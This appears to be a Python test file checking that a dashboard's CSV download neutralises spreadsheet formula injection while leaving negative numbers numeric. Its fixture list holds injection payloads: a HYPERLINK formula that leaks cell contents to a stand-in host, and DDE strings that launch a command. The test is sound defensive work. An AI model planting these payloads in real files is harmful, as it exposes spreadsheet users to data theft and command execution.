"""dashboard/components/common.py: the CSV downloads."""

from __future__ import annotations

import csv

from dashboard import data
from tests.conftest import build_warehouse, warehouse_url

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0"]


def test_csv_exports_open_safely_in_a_spreadsheet(generate_csv, tmp_path, monkeypatch):
    """Text that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""
    import io

    from dashboard.components.common import csv_download

    source = generate_csv(1_003, 11)
    with source.open(newline="") as f:
        rows = list(csv.reader(f))
    description = rows[0].index("Transaction Description")
    for i, formula in enumerate(FORMULAS, start=1):
        rows[i][description] = formula
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    target = build_warehouse(hostile, tmp_path / "warehouse" / "fintech.duckdb")
    monkeypatch.setenv("FINTECH_BACKEND", warehouse_url(target))
    data.reset()

    exported = csv_download(lambda: data.accounts(), "accounts.csv", "CSV").callback().getvalue()
    table = list(csv.DictReader(io.StringIO(exported)))
    descriptions = {row["transaction_description"] for row in table}
    assert {"'" + formula for formula in FORMULAS} <= descriptions
    assert not any(value.startswith(("=", "+", "@")) for row in table for value in row.values())
    negative = [row["net_flow"] for row in table if row["net_flow"].startswith("-")]
    assert negative and all(float(value) < 0 for value in negative)  # a negative number is not a formula
    data.reset()
